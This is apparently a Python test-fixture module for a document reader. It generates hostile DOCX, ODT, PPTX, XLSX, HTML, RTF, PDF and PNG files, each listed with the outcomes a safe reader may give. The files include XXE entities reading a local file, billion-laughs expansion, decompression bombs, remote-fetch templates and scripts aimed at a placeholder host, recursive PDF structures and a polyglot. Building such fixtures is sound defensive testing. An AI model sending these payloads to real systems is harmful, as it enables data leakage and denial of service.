"""Files of every kind we read, made to do harm; each with the ways in which it may end."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

from tests.archives import encrypted
from tests.hostile import Hostile

REMOTE = "http://192.0.2.1/leak"
LOCAL_FILE = "file:///etc/hostname"

_OK = frozenset({"read"})
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_P = "http://schemas.openxmlformats.org/package/2006/relationships"
_ODF = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for name in ("office", "text", "table", "draw")
)
_ENTITIES = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{LOCAL_FILE}"><!ENTITY h SYSTEM "{REMOTE}">]>'
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 20}">' for n in range(1, 12))
    + "]>"
)


def _zip(path: Path, parts: Mapping[str, str | bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def _relation(kind: str, target: str = REMOTE) -> str:
    told = f'Id="r1" Type="{_R}/{kind}" Target="{target}" TargetMode="External"'
    return f'<Relationships xmlns="{_P}"><Relationship {told}/></Relationships>'


def _docx(path: Path, body: str, prolog: str = "", **parts: str) -> None:
    document = f'{prolog}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    _zip(path, {"word/document.xml": document, **parts})


def remote_docx(path: Path, url: str = REMOTE) -> None:
    """An attached template, a picture and a field that lie elsewhere."""
    field = f'<w:fldSimple w:instr="INCLUDETEXT {url}"><w:r><w:t>Words</w:t></w:r></w:fldSimple>'
    _docx(
        path,
        f"<w:p>{field}<w:r><w:t>here</w:t></w:r></w:p>",
        **{
            "word/_rels/settings.xml.rels": _relation("attachedTemplate", url),
            "word/_rels/document.xml.rels": _relation("image", url),
        },
    )


def _entities_docx(path: Path) -> None:
    _docx(path, "<w:p><w:r><w:t>&e;&h;</w:t></w:r></w:p>", _ENTITIES)


def _odt(path: Path, body: str, prolog: str = "") -> None:
    content = f"{prolog}<office:document-content {_ODF}><office:body>{body}</office:body>"
    _zip(
        path,
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"{content}</office:document-content>",
        },
    )


def remote_odt(path: Path, url: str = REMOTE) -> None:
    """`xlink:href` of pictures and sections that lie elsewhere."""
    link = f'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{url}"'
    image = f"<draw:frame><draw:image {link}/></draw:frame>"
    section = f"<text:section><text:section-source {link}/></text:section>"
    _odt(path, f"<office:text><text:p>Words here{image}</text:p>{section}</office:text>")


def _pptx(path: Path, prolog: str, text: str, url: str = REMOTE) -> None:
    slide = f'{prolog}<p xmlns:a="{_A}"><a:p><a:t>{text}</a:t></a:p></p>'
    relation = _relation("image", url)
    _zip(
        path,
        {
            "ppt/presentation.xml": "<p/>",
            "ppt/slides/slide1.xml": slide,
            "ppt/slides/_rels/slide1.xml.rels": relation,
        },
    )


def remote_pptx(path: Path, url: str = REMOTE) -> None:
    _pptx(path, "", "Words here", url)


def remote_html(path: Path, url: str = REMOTE) -> None:
    path.write_text(
        f"<!DOCTYPE html><link rel=stylesheet href={url}><script src={url}></script>"
        f"<iframe src={LOCAL_FILE}></iframe><object data={url}></object>"
        f"<img src={url}><p>Words here<meta http-equiv=refresh content='0;url={url}'>"
    )


def remote_rtf(path: Path, url: str = REMOTE) -> None:
    """A picture and a template elsewhere, and an object that Word would run."""
    field = r"{\field{\*\fldinst INCLUDEPICTURE " + url + r"}{\fldrslt shown}}"
    template = r"{\*\template " + url + "}"
    thing = r"{\object\objautlink\objupdate{\*\objclass Excel.Sheet.8}{\*\objdata 0105000002}}"
    path.write_text(r"{\rtf1\ansi Words here " + template + field + thing + "}")


def remote_pdf(path: Path, url: str = REMOTE) -> None:
    """Opens an address, runs a script, sends a form, and has its stream in another file."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({url})>>"
        f"/AA<</WC<</S/JavaScript/JS(app.launchURL('{url}'))>>>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        "/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>"
        f"/AA<</O<</S/GoToR/F({url})/D[0/Fit]>>>>>>",
        "<</Length 62>>stream\nBT /F1 12 Tf 72 700 Td (Words here that are read) Tj ET /X Do  \n"
        "endstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        "<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray"
        f"/F<</FS/URL/F({url})>>/Length 0>>stream\n\nendstream",
    ]
    path.write_bytes(_pdf_of(objects))


def _pdf_of(objects: list[str]) -> bytes:
    content, places = b"%PDF-1.5\n", []
    for number, told in enumerate(objects, 1):
        places.append(len(content))
        content += f"{number} 0 obj\n{told}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start, size = len(content), len(objects) + 1
    end = f"trailer<</Root 1 0 R/Size {size}>>\nstartxref\n{start}\n%%EOF\n"
    return content + f"xref\n0 {size}\n0000000000 65535 f \n{table}{end}".encode()


def _page(extra: str = "", box: str = "0 0 612 792") -> list[str]:
    return [
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R{extra}>>",
    ]


def _huge_page(path: Path) -> None:
    """Two kilobytes that ask for gigabytes when they are drawn."""
    drawn = "<</Length 24>>stream\n0 0 m 9 9 l S 0 0 9 9 re f\nendstream"
    path.write_bytes(_pdf_of([*_page(box="0 0 14400000 14400000"), drawn]))


def _pages_of_themselves(path: Path) -> None:
    objects = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>"]
    path.write_bytes(_pdf_of(objects))


def _form_of_itself(path: Path) -> None:
    """A drawing that draws itself."""
    form = "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 6>>"
    objects = [
        *_page("/Resources<</XObject<</X 5 0 R>>>>"),
        "<</Length 6>>stream\n/X Do \nendstream",
        f"{form}stream\n/X Do \nendstream",
    ]
    path.write_bytes(_pdf_of(objects))


def _flate_bomb(path: Path) -> None:
    """Packed over and over: a page's stream that unfolds to two gigabytes."""
    packed = zlib.compress(bytes(2 * 1024**3 // 64))
    for _ in range(2):
        packed = zlib.compress(packed)
    filters = "/FlateDecode/FlateDecode/FlateDecode"
    told = (
        f"<</Length {len(packed)}/Filter[{filters}]>>stream\n{packed.decode('latin-1')}\nendstream"
    )
    path.write_bytes(_pdf_of([*_page(), told]))


def _huge_png(path: Path) -> None:
    """A head that tells 50,000 by 50,000 pixels, and next to nothing behind it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        told = struct.pack(">I", len(content)) + kind + content
        return told + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    content = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 9)) + chunk(b"IEND", b"")
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + content)


def _sheets(path: Path, rows: str, strings: str = "") -> None:
    parts = {
        "xl/workbook.xml": (
            f'<w xmlns="{_S}" xmlns:r="{_R}"><sheets><sheet name="P" r:id="r1"/></sheets></w>'
        ),
        "xl/_rels/workbook.xml.rels": '<r><Relationship Id="r1" Target="worksheets/s.xml"/></r>',
        "xl/worksheets/s.xml": f'<w xmlns="{_S}"><sheetData>{rows}</sheetData></w>',
    }
    _zip(path, parts | ({"xl/sharedStrings.xml": strings} if strings else {}))


def _million_rows(path: Path) -> None:
    filled = '<row><c r="A1" t="inlineStr"><is><t>Words here</t></is></c></row>'
    _sheets(path, filled + "<row/>" * 1_000_000)


def _laughing_sheet(path: Path) -> None:
    strings = f'{_LAUGHS}<s xmlns="{_S}"><si><t>&a11;</t></si></s>'
    _sheets(path, '<row><c r="A1" t="s"><v>0</v></c></row>', strings)


def _deep_odt(path: Path) -> None:
    _odt(path, "<text:list>" * 50_000 + "</text:list>" * 50_000)


def _deep_html(path: Path) -> None:
    path.write_text("<html>" + "<div>" * 200_000 + "Words here")


def _locked_office(path: Path) -> None:
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)
    path.write_bytes(content + "EncryptedPackage".encode("utf-16-le") + bytes(2_000))


def _polyglot(path: Path) -> None:
    """A PDF to one reader, an archive to another."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<a>the other words</a>")
    remote_pdf(path)
    path.write_bytes(path.read_bytes() + buffer.getvalue() + b"\n%%EOF\n")


def _cut_docx(path: Path) -> None:
    _docx(path, "<w:p><w:r><w:t>Words here</w:t></w:r></w:p>" * 500)
    content = path.read_bytes()
    path.write_bytes(content[: len(content) // 2])


def _encrypted_docx(path: Path) -> None:
    path.write_bytes(encrypted({"word/document.xml": b"<a/>"}))


QUIET = {
    "a DOCX of remote parts": remote_docx,
    "an ODT of remote parts": remote_odt,
    "a PPTX of remote parts": remote_pptx,
    "HTML of remote parts": remote_html,
    "RTF with objects": remote_rtf,
    "a PDF of remote parts": remote_pdf,
}
"""Read without what they point at."""

HOSTILE_FORMATS = {
    "entities from elsewhere, DOCX": Hostile(_entities_docx, frozenset({"broken"})),
    "entities from elsewhere, ODT": Hostile(
        lambda path: _odt(path, "<text:p>&e;</text:p>", _ENTITIES), frozenset({"broken"})
    ),
    "entities of entities, PPTX": Hostile(
        lambda path: _pptx(path, _LAUGHS, "&a11;"), frozenset({"broken", "bomb"})
    ),
    "entities of entities, XLSX": Hostile(_laughing_sheet, frozenset({"broken", "bomb"})),
    "a page as large as a city": Hostile(_huge_page, _OK | {"out_of_memory", "bomb", "broken"}),
    "pages of themselves": Hostile(
        _pages_of_themselves, frozenset({"broken", "empty", "crashed", "oversized", "timed_out"})
    ),
    "a drawing of itself": Hostile(_form_of_itself, _OK | {"broken", "crashed"}),
    "a stream that unfolds": Hostile(
        _flate_bomb, _OK | {"out_of_memory", "broken", "crashed", "bomb"}
    ),
    "a picture of 50,000 by 50,000": Hostile(_huge_png, frozenset({"bomb"})),
    "a million empty rows": Hostile(_million_rows, _OK | {"out_of_memory", "bomb"}),
    "lists without a floor": Hostile(_deep_odt, frozenset({"bomb", "broken", "crashed"})),
    "divisions without a floor": Hostile(_deep_html, _OK),
    "a locked workbook": Hostile(_locked_office, frozenset({"locked"})),
    "two kinds at once": Hostile(_polyglot, _OK | {"broken"}),
    "a DOCX that was cut off": Hostile(_cut_docx, frozenset({"broken"})),
    "a DOCX with a locked part": Hostile(_encrypted_docx, frozenset({"locked", "broken"})),
}
"""`read` is an end too: whoever reads them got no further than they should."""
